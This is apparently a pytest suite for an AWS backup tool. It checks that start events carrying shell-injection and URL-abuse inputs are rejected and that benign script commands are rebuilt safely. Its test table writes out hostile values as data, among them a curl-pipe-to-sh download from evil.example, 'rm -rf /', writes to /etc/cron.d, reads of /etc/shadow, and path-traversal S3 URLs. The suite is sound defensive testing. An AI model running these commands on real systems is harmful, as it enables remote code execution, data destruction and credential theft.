"""A start event can do no more than the deployment allows (issue 10).

Each hostile input below is a start event someone with `events:PutEvents` could send. Every
one must end `REJECTED`, name the field it abuses, and make no EC2, SSM or Backup call.
The benign ones must still run, and the command line SSM receives is the one rebuilt from
the input's words, quoted for the shell that will read it.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest

from chalicelib.clock import iso
from chalicelib.models.profile import Profile
from chalicelib.models.state import RunStatus
from prepost.local.cloud import LocalCloud
from tests.conftest import seed_input
from tests.functional.helpers import calls, outcome, parameter
from tests.functional.inputs import Detail, backup, both, post_script, pre_script, scripts

PRE = "RemoteRunCommandDetails.PreBackupScriptDetails"
POST = "RemoteRunCommandDetails.PostBackupScriptDetails"
HOST = "backup-status-bucket-example.s3.amazonaws.com"
BUCKET_URL = f"https://{HOST}"
SCRIPTS_URL = f"{BUCKET_URL}/scripts"


def command(text: str) -> Callable[[Detail], Any]:
    return pre_script(CommandToRun=text)


def source(url: str) -> Callable[[Detail], Any]:
    return pre_script(SourceS3Path=url)


def slot(moment: str) -> Callable[[Detail], Any]:
    return lambda _: {"Profile": "nightly", "Slot": moment}


def lifecycle(**fields: Any) -> Callable[[Detail], Any]:
    return backup(Lifecycle=fields)


CMD = f"{PRE}.CommandToRun"
SRC = f"{PRE}.SourceS3Path"
DIR = f"{PRE}.WorkingDirectory"
TAGS = "BackupDetails.RecoveryPointTags"

HOSTILE: list[tuple[str, Callable[[Detail], Any], str]] = [
    # The command policy: the downloaded script, plain arguments, nothing else.
    (
        "command separator and a download",
        command("pre-script.sh; curl -s https://evil.example/x | sh"),
        CMD,
    ),
    ("backticks", command("pre-script.sh `id`"), CMD),
    ("command substitution", command("pre-script.sh $(id)"), CMD),
    ("a newline and a second command", command("pre-script.sh\ntouch /pwned"), CMD),
    ("a carriage return", command("pre-script.sh\rtouch /pwned"), CMD),
    ("a NUL byte", command("pre-script.sh\x00"), CMD),
    ("a tab", command("pre-script.sh\t-x"), CMD),
    ("a non-breaking space", command("pre-script.sh\u00a0x"), CMD),
    ("bash -c that never runs the script", command("bash -c 'touch /pwned'"), CMD),
    ("sh -c behind an absolute path", command("/bin/sh -c id"), CMD),
    ("python -c", command("python3 -c 'import os'"), CMD),
    ("another program", command("curl https://evil.example"), CMD),
    ("an environment assignment first", command("LD_PRELOAD=/tmp/x.so pre-script.sh"), CMD),
    ("env before the script", command("env pre-script.sh"), CMD),
    ("and-list", command("pre-script.sh && reboot"), CMD),
    ("or-list", command("pre-script.sh || true"), CMD),
    ("background job", command("pre-script.sh & rm -rf /"), CMD),
    ("pipe", command("pre-script.sh | tee /etc/passwd"), CMD),
    ("output redirection", command("pre-script.sh > /etc/cron.d/x"), CMD),
    ("input redirection", command("pre-script.sh < /etc/shadow"), CMD),
    ("a variable", command("pre-script.sh $HOME"), CMD),
    ("a braced variable", command("pre-script.sh ${IFS}"), CMD),
    ("globbing", command("pre-script.sh /etc/*"), CMD),
    ("brace expansion", command("pre-script.sh {a,b}"), CMD),
    ("tilde expansion", command("pre-script.sh ~root"), CMD),
    ("history expansion", command("pre-script.sh !!"), CMD),
    ("a comment", command("pre-script.sh #x"), CMD),
    ("double quotes hiding a separator", command('pre-script.sh "a;b"'), CMD),
    ("single quotes hiding a substitution", command("pre-script.sh 'x$(id)'"), CMD),
    ("an escaped separator", command("pre-script.sh a\\;id"), CMD),
    ("an unbalanced quote", command("pre-script.sh 'oops"), CMD),
    ("a script from a parent folder", command("../pre-script.sh"), CMD),
    ("an interpreter for another kind of script", command("powershell -File pre-script.sh"), CMD),
    (
        "the post-script abused",
        post_script(CommandToRun="pre-script.sh;id"),
        f"{POST}.CommandToRun",
    ),
    # WorkingDirectory: an absolute path of plain characters.
    ("working directory with a command", pre_script(WorkingDirectory="/tmp; touch /pwned"), DIR),
    ("relative working directory", pre_script(WorkingDirectory="tmp/x"), DIR),
    ("working directory with dot segments", pre_script(WorkingDirectory="/opt/../etc"), DIR),
    ("working directory with a substitution", pre_script(WorkingDirectory="/tmp/$(id)"), DIR),
    (
        "Windows working directory with an operator",
        pre_script(WorkingDirectory="C:\\x & calc"),
        DIR,
    ),
    # SourceS3Path: a URL, parsed; the allow list matched on bucket and `/` boundaries.
    ("dot segments in the key", source(f"{SCRIPTS_URL}/../../other/x.sh"), SRC),
    ("percent-encoded dot segments", source(f"{SCRIPTS_URL}/%2e%2e/%2e%2e/other/x.sh"), SRC),
    ("a query", source(f"{SCRIPTS_URL}/pre-script.sh?versionId=1"), SRC),
    ("a fragment", source(f"{SCRIPTS_URL}/pre-script.sh#x"), SRC),
    ("user info", source(f"https://me@{HOST}/scripts/x.sh"), SRC),
    ("a port", source(f"https://{HOST}:8443/scripts/x.sh"), SRC),
    ("a host that only starts like S3", source(f"https://{HOST}.evil.example/scripts/x.sh"), SRC),
    (
        "the allowed host in another host's path",
        source(f"https://evil.example/{HOST}/scripts/x.sh"),
        SRC,
    ),
    (
        "a sibling of the allowed prefix",
        source("s3://backup-status-bucket-example/scripts-old/x.sh"),
        SRC,
    ),
    ("an empty segment", source(f"{SCRIPTS_URL}//pre-script.sh"), SRC),
    ("backslashes", source(f"{SCRIPTS_URL}/x\\..\\..\\y.sh"), SRC),
    ("plain http", source(f"http://{HOST}/scripts/pre-script.sh"), SRC),
    (
        "a script name starting with a dash",
        both(source(f"{SCRIPTS_URL}/-rf"), command("./-rf")),
        CMD,
    ),
    # AWS's own limits, before anything happens.
    ("recovery point tag key over 128", backup(RecoveryPointTags={"k" * 129: "v"}), TAGS),
    ("recovery point tag value over 256", backup(RecoveryPointTags={"k": "v" * 257}), TAGS),
    (
        "48 recovery point tags (51 with our 3)",
        backup(RecoveryPointTags={f"k{n}": "v" for n in range(48)}),
        TAGS,
    ),
    (
        "recovery point tag key with a control character",
        backup(RecoveryPointTags={"a\nb": "v"}),
        TAGS,
    ),
    (
        "delete less than 90 days after cold storage",
        lifecycle(MoveToColdStorageAfterDays=30, DeleteAfterDays=100),
        "BackupDetails.Lifecycle",
    ),
    (
        "retention over 100 years",
        lifecycle(DeleteAfterDays=36_501),
        "BackupDetails.Lifecycle.DeleteAfterDays",
    ),
    (
        "complete window of 10**40 minutes",
        backup(CompleteWindowMinutes=10**40),
        "BackupDetails.CompleteWindowMinutes",
    ),
    (
        "start window in scientific notation",
        backup(StartWindowMinutes="1e9"),
        "BackupDetails.StartWindowMinutes",
    ),
    (
        "timeout in Arabic-Indic digits",
        pre_script(TimeoutInSeconds="\u0666\u0660\u0660"),
        f"{PRE}.TimeoutInSeconds",
    ),
    (
        "execution timeout in full-width digits",
        pre_script(ExecutionTimeoutInSeconds="\uff13\uff16\uff10\uff10"),
        f"{PRE}.ExecutionTimeoutInSeconds",
    ),
    (
        "output prefix that SSM would refuse once the run's suffix is added",
        pre_script(OutputS3KeyPrefix="p" * 461),
        f"{PRE}.OutputS3KeyPrefix",
    ),
    (
        "output bucket that is no bucket name",
        pre_script(OutputS3BucketName="Bad_Bucket"),
        f"{PRE}.OutputS3BucketName",
    ),
    # A scheduled slot that the profile's schedule has not come to.
    ("a future slot", slot("2026-11-27T02:30:00Z"), "Slot"),
    ("a moment that is no slot", slot("2026-11-26T01:47:00Z"), "Slot"),
    ("a slot off by seconds", slot("2026-11-26T01:30:07Z"), "Slot"),
    ("a slot before the profile was stored", slot("2026-11-25T02:30:00Z"), "Slot"),
]


def test_every_hostile_input_is_rejected_with_its_field_named_and_nothing_touched(
    cloud: LocalCloud, record_property: Callable[[str, object], None]
) -> None:
    cloud.launch(2, tags={"backup-job": "true"})
    stored = iso(datetime(2026, 11, 26, 1, 0, tzinfo=UTC))  # before the clock's start
    document = {"Input": seed_input(), "Schedule": {"Cron": "30 1 * * *"}}
    cloud.store.put_profile(Profile.from_document("nightly", document, stored))
    accepted, wrong = [], []
    for name, mutate, field in HOSTILE:
        before = len(cloud.calls)
        run_id = cloud.run(mutate(seed_input()))
        run = cloud.store.get_run(run_id)
        touched = [(s, o) for s, o, _ in cloud.calls[before:] if s in ("ec2", "ssm", "backup")]
        if run is None or run.status is not RunStatus.REJECTED or touched:
            accepted.append(f"{name}: {run.status if run else 'no record'}, calls {touched}")
        elif not any(message.startswith(f"{field}:") for message in run.errors):
            wrong.append(f"{name}: {field} not named in {run.errors}")
    record_property("summary", f"hostile inputs: {len(HOSTILE)}, accepted: {len(accepted)}")
    assert accepted == []
    assert wrong == []


def test_the_table_covers_at_least_forty_distinct_hostile_inputs() -> None:
    assert len({name for name, _, _ in HOSTILE}) == len(HOSTILE) >= 40


def windows(name: str) -> Callable[[Detail], Any]:
    return scripts(SourceS3Path=f"{SCRIPTS_URL}/{name}")


# (name, edit, CommandToRun, the commandLine SSM receives, workingDirectory)
BENIGN: list[tuple[str, Callable[[Detail], Any], str, str, str]] = [
    ("the seed README's example", lambda d: d, "pre-script.sh", "pre-script.sh", ""),
    ("the script in its folder", lambda d: d, "./pre-script.sh", "./pre-script.sh", ""),
    (
        "plain arguments",
        lambda d: d,
        "pre-script.sh --mode=flush-only /var/lib/mysql",
        "pre-script.sh --mode=flush-only /var/lib/mysql",
        "",
    ),
    (
        "quotes around plain words are read, not passed",
        lambda d: d,
        "pre-script.sh \"--label=nightly\" 'db1,db2'",
        "pre-script.sh --label=nightly db1,db2",
        "",
    ),
    (
        "every plain punctuation mark",
        lambda d: d,
        "pre-script.sh user@host:5432 50% +1 a=b,c",
        "pre-script.sh user@host:5432 50% +1 a=b,c",
        "",
    ),
    (
        "behind bash, in a working directory",
        scripts(WorkingDirectory="/opt/app"),
        "bash pre-script.sh /data",
        "bash pre-script.sh /data",
        "/opt/app",
    ),
    (
        "behind sh with its options",
        lambda d: d,
        "/bin/sh -eu ./pre-script.sh x",
        "/bin/sh -eu ./pre-script.sh x",
        "",
    ),
    (
        "a Python script",
        scripts(SourceS3Path=f"{SCRIPTS_URL}/db/freeze.py"),
        "python3 -u freeze.py --all",
        "python3 -u freeze.py --all",
        "",
    ),
    (
        "an s3:// source",
        scripts(SourceS3Path="s3://backup-status-bucket-example/scripts/pre-script.sh"),
        "pre-script.sh",
        "pre-script.sh",
        "",
    ),
    (
        "a path-style regional URL",
        scripts(
            SourceS3Path="https://s3.eu-west-1.amazonaws.com/backup-status-bucket-example/scripts/pre-script.sh"
        ),
        "pre-script.sh",
        "pre-script.sh",
        "",
    ),
    (
        "a PowerShell script: arguments quoted, parameter names bare",
        both(windows("pre.ps1"), scripts(WorkingDirectory="C:\\Scripts")),
        ".\\pre.ps1 -Databases a,b -Mode fast",
        "& '.\\pre.ps1' -Databases 'a,b' -Mode 'fast'",
        "C:\\Scripts",
    ),
    (
        "powershell -File with an execution policy",
        windows("pre.ps1"),
        "powershell -NoProfile -ExecutionPolicy Bypass -File pre.ps1 -Path C:\\data @x",
        "powershell -NoProfile -ExecutionPolicy Bypass -File 'pre.ps1' -Path 'C:\\data' '@x'",
        "",
    ),
]


@pytest.mark.parametrize(
    ("edit", "text", "sent", "directory"),
    [pytest.param(e, t, s, d, id=name) for name, e, t, s, d in BENIGN],
)
def test_a_benign_command_still_runs_rebuilt_for_its_shell(
    cloud: LocalCloud, edit: Callable[[Detail], Any], text: str, sent: str, directory: str
) -> None:
    cloud.launch(2, tags={"backup-job": "true"})
    detail = scripts(CommandToRun=text)(edit(seed_input()))
    run, _ = outcome(cloud, cloud.run(detail))
    assert run.status is RunStatus.SUCCEEDED, run.errors
    sends = calls(cloud, "ssm", "SendCommand")
    assert len(sends) == 2  # the pre-script and the post-script
    for params in sends:
        assert parameter(params, "commandLine") == sent
        assert parameter(params, "workingDirectory") == directory
        source_path = detail["RemoteRunCommandDetails"]["PreBackupScriptDetails"]["SourceS3Path"]
        assert parameter(params, "sourceInfo") == {"path": source_path}


def test_at_least_ten_benign_cases() -> None:
    assert len(BENIGN) >= 10


def test_a_command_line_the_stage_lists_is_sent_as_written(cloud: LocalCloud) -> None:
    listed = "pre-script.sh --tables 'orders items' > /var/log/freeze.log"
    cloud.configure_stage(PREPOST_ALLOWED_COMMANDS=f"other.sh\n{listed}\n")
    cloud.launch(1, tags={"backup-job": "true"})
    run, _ = outcome(cloud, cloud.run(scripts(CommandToRun=listed)(seed_input())))
    assert run.status is RunStatus.SUCCEEDED, run.errors
    assert {parameter(p, "commandLine") for p in calls(cloud, "ssm", "SendCommand")} == {listed}
    # Only exactly that line: one character more is the command policy's again.
    run, _ = outcome(cloud, cloud.run(scripts(CommandToRun=listed + " ")(seed_input())))
    assert run.status is RunStatus.REJECTED


def test_a_command_the_deployment_stops_allowing_mid_run_fails_its_instances_loudly(
    cloud: LocalCloud,
) -> None:
    listed = "pre-script.sh > /var/log/thaw.log"
    cloud.configure_stage(PREPOST_ALLOWED_COMMANDS=listed)
    [instance_id] = cloud.launch(1, tags={"backup-job": "true"})
    cloud.publish(cloud.start_event(post_script(CommandToRun=listed)(seed_input())))
    cloud.step(1)  # the start handler: the run is RUNNING
    cloud.configure_stage(PREPOST_ALLOWED_COMMANDS="")
    cloud.drain()
    [run_id] = {e["detail"]["run_id"] for e in cloud.emitted if "run_id" in e["detail"]}
    run, instances = outcome(cloud, run_id)
    post = instances[instance_id].phases["POST_SCRIPT"]
    assert str(post.status) == "FAILED"
    assert "'>' (a redirection)" in (post.reason or "")
    assert run.status is RunStatus.COMPLETED_WITH_ERRORS
    assert cloud.state_of(instance_id) == "running"  # stopped by the run, started again
    post_sends = [p for p in calls(cloud, "ssm", "SendCommand") if "POST" in p["Comment"]]
    assert post_sends == []


def test_a_run_over_the_instance_limit_is_rejected_with_the_count(cloud: LocalCloud) -> None:
    cloud.configure_stage(PREPOST_MAX_INSTANCES_PER_RUN="3")
    cloud.launch(4, tags={"backup-job": "true"})
    run, _ = outcome(cloud, cloud.run(seed_input()))
    assert run.status is RunStatus.REJECTED
    assert any("resolves to 4 instances, more than the 3" in e for e in run.errors), run.errors
    assert [(s, o) for s, o, _ in cloud.calls if s in ("ec2", "ssm", "backup")] == [
        ("ec2", "DescribeInstances")
    ]


def test_a_large_non_ascii_input_leaves_a_record(cloud: LocalCloud) -> None:
    # 250 KB as EventBridge carries it (UTF-8); 750 KB if every character were escaped.
    detail = seed_input() | {"Notes": "é" * 125_000}
    run, _ = outcome(cloud, cloud.run(detail))
    assert run.status is RunStatus.REJECTED
    assert any(e.startswith("Notes:") for e in run.errors)
    assert json.loads(run.input_json) == detail
    assert len(run.input_json.encode()) < 260_000


def test_an_input_too_large_to_keep_is_rejected_with_its_size(cloud: LocalCloud) -> None:
    detail = seed_input() | {"Notes": "x" * 310_000}  # larger than EventBridge delivers
    run, _ = outcome(cloud, cloud.run(detail))
    assert run.status is RunStatus.REJECTED
    assert run.input_json == "null"
    size = len(json.dumps(detail, separators=(",", ":")))
    assert any("was not kept" in e and f"({size} bytes" in e for e in run.errors), run.errors


def test_a_lone_surrogate_in_the_input_still_leaves_a_record(cloud: LocalCloud) -> None:
    detail = seed_input() | {"Notes": "\ud800"}  # valid JSON (\\ud800), not valid UTF-8
    run, _ = outcome(cloud, cloud.run(detail))
    assert run.status is RunStatus.REJECTED
    assert json.loads(run.input_json) == detail


def test_error_messages_are_kept_short(cloud: LocalCloud) -> None:
    run, _ = outcome(cloud, cloud.run(pre_script(TimeoutInSeconds="9" * 100_000)(seed_input())))
    assert run.status is RunStatus.REJECTED
    assert all(len(error) <= 500 for error in run.errors)
